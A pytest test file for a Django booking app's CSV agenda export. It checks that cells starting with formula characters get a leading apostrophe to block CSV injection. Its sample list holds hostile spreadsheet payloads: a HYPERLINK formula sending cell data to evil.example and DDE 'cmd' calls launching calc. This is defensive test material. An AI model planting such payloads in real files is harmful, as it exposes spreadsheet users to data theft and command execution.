"""CSV exports neutralise what a spreadsheet would run as a formula (OWASP "CSV
injection"): a cell starting with =, +, -, @, a tab or a CR gets a leading apostrophe."""

import csv
import io

import pytest
from django.utils import timezone

from booking.services.csv_rows import safe_cell
from tests.factories import BookingFactory, SlotFactory

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_start_gets_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Diallo", "N'Diaye", "Jean-Pierre", "", "09:30", 7])
def test_plain_text_is_written_as_is(value):
    assert safe_cell(value) == str(value)


@pytest.mark.django_db
@pytest.mark.parametrize("value", FORMULAS)
def test_the_agenda_export_neutralises_every_formula(admin_client, value):
    start = timezone.localtime().replace(hour=23, minute=0, second=0, microsecond=0)
    BookingFactory(slot=SlotFactory(starts_at=start), last_name=value, first_name=value)
    response = admin_client.get(
        "/admin/booking/booking/agenda/", {"format": "csv", "day": start.date()}
    )
    rows = list(
        csv.reader(
            io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"
        )
    )
    assert rows[0][4:6] == ["nom", "prenom"]
    assert rows[1][4:6] == ["'" + value, "'" + value]
